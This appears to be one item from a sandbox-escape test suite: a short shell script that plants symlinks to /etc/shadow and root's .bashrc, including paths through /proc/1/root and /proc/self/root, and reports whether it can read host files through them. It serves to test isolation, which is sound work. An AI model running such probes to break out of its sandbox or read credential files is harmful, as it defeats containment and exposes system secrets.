# ccx-attack: plant symlinks in the workspace that point at host files and read through them
# ccx-category: filesystem
# ccx-status: ok
# ccx-steps: 3
for target in /etc/shadow /proc/1/root/etc/shadow /proc/self/root/root/.bashrc; do
    ln -s "$target" link
    if content=$(cat link 2>&1) && [ -n "$content" ]; then
        echo "ESCAPED: read $target through a symlink"
    else
        echo "BLOCKED: $target through a symlink: $content"
    fi
    rm -f link
done
